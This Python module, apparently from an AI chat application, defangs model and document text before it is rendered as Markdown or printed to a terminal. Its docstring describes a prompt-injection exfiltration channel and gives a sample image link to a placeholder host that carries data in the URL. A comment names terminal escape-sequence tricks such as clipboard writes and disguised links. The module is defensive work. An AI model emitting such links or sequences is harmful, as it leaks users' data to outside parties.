"""What model and document text may become on a page: Markdown without raw HTML or images.

The web chat renders an answer as Markdown while it streams, before the grounding check has
read it, and a near miss quotes a document. Either can carry `![x](http://host/?d=…)` or
`<img src=…>`, which a browser fetches on sight: an exfiltration channel for a prompt
injection. So wherever such text becomes Markdown, a tag's `<` becomes `&lt;` and an image's
`![` becomes `!\\[`; links, emphasis, citations and code stay. The page's
Content-Security-Policy (ui.security) is the second wall.

Code is not special-cased: a parser that disagreed with the browser's on where a code block
ends would let HTML through. The cost is that `<tag` inside code shows as `&lt;tag`.
"""

from __future__ import annotations

import re

_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")  # what can open an HTML tag, comment or PI
_IMAGE = re.compile(r"!\[")
# Markdown punctuation that could format, link or embed when document text is quoted.
_MARKDOWN_PUNCTUATION = re.compile(r"([\\`*_\[\]!|~$])")
# Control characters but tab and newline: ESC starts terminal sequences (OSC 52 writes the
# clipboard, OSC 8 disguises links, CSI moves the cursor over what was printed).
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def safe_markdown(text: str) -> str:
    """Model (or mixed) text as Markdown that renders no HTML and loads no image. Idempotent."""
    return _IMAGE.sub(r"!\\[", _TAG_START.sub("&lt;", text))


def quoted_text(text: str) -> str:
    """Document text to put inside Markdown: shown as it is, never as markup."""
    return _MARKDOWN_PUNCTUATION.sub(r"\\\1", text).replace("<", "&lt;")


def terminal_text(text: str) -> str:
    """Model or document text for a terminal: shown, never obeyed."""
    return _CONTROL.sub("\ufffd", text.replace("\r\n", "\n"))


class StreamDefang:
    """`safe_markdown` over a stream of pieces (the API's deltas): a piece's trailing `<` and
    `!` are held back until the next shows what follows them."""

    def __init__(self) -> None:
        self._held = ""

    def feed(self, piece: str) -> str:
        text = self._held + piece
        cut = len(text.rstrip("<!"))
        self._held = text[cut:]
        return safe_markdown(text[:cut])

    def flush(self) -> str:
        held, self._held = self._held, ""
        return safe_markdown(held)
